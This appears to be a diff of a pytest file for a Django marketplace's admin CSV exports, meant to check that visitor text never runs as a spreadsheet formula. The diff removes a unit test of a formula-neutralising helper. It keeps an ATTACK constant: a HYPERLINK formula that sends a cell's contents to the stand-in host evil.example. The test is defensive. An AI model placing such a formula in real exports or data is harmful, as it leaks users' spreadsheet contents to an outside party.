@@ -1,5 +1,6 @@
 """What every admin report's export shares: text typed by visitors and producers is
-never run as a formula when the office opens a CSV export in a spreadsheet."""
+never run as a formula when the office opens a CSV export in a spreadsheet (the rule
+itself, and Wagtail's own exports: tests/test_csv_injection.py)."""
 
 import csv
 import io
@@ -7,32 +8,11 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from marketplace.reports.mixins import neutralise_formula
 from search.models import SearchQueryLog
 
 pytest_plugins = ["tests.producer_accounts_fixtures"]
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
-
-
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        (ATTACK, "'" + ATTACK),
-        ("+84905123456 gọi", "'+84905123456 gọi"),
-        ("-1+1", "'-1+1"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\t=1", "'\t=1"),
-        ("-5", "-5"),  # a number written as text
-        ("-2.5", "-2.5"),
-        ("nước mắm", "nước mắm"),
-        ("", ""),
-        (42, 42),
-        (None, None),
-    ],
-)
-def test_formula_like_text_is_made_plain_text(value, expected):
-    assert neutralise_formula(value) == expected
 
 
 @pytest.mark.django_db
